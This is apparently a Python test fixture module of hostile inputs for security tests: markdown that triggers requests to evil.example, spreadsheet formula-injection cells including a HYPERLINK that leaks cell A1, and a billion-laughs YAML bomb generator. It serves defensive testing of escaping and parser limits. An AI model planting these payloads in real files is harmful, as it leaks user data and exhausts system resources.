"""Hostile inputs as data, shared by the security tests: text that a markdown renderer would turn into outside
requests or links, CSV cells a spreadsheet would run as formulas, and YAML documents that expand without bound.

Every URL points at ``evil.example`` so a test can say "no unescaped ``evil.example`` anywhere rendered"."""
from __future__ import annotations

HOSTILE_MARKDOWN = [
    "![beacon](http://evil.example/b.png)",  # image beacon: the browser fetches it on render
    "[click me](http://evil.example/phish)",  # link
    "[ref link][r]\n\n[r]: http://evil.example/ref",  # reference-style link
    "<http://evil.example/auto>",  # autolink
    "http://evil.example/bare www.evil.example",  # GFM autolink literals
    '<img src="http://evil.example/i.png">',  # raw HTML
    "<script>fetch('http://evil.example/s')</script>",
    '<a href="http://evil.example/a">a</a>',
    ":material/home: :red[red text] :rainbow-background[bg]",  # streamlit directives and icons
    "$\\href{http://evil.example/tex}{tex}$ $$x^2$$",  # LaTeX
    "**bold** _it_ `code` ~~strike~~ # heading | table |",
    "&lt;img src=x&gt; &#60;b&#62;",  # entities that decode to HTML
    "back\\slash \\![x](http://evil.example/esc.png)",  # a pre-escaped attempt to undo our escaping
]

FORMULA_CELLS = [
    '=HYPERLINK("http://evil.example/x?leak="&A1,"click")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def _billion_laughs(depth: int) -> str:
    """The classic alias bomb: each level holds nine aliases of the one below (9**depth strings when expanded)."""
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, depth + 1):
        lines.append(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


YAML_BOMBS = {
    "aliases-depth-7": _billion_laughs(7),  # ~430 bytes; 24 s and 2.2 GB before the fix
    "aliases-depth-9": _billion_laughs(9),
    "one-alias": "kind: product\nname: &n polo\ntitle: *n\ntext: a polo\n",
    "merge-key": "base: &b {steps: 20}\nkind: product\n<<: *b\ntext: a polo\n",
    "deep-nesting": "text: " + "[" * 5000 + "]" * 5000 + "\n",
    "huge": "text: |\n" + "  x\n" * 100_000,  # 400 KB: over the size cap
}
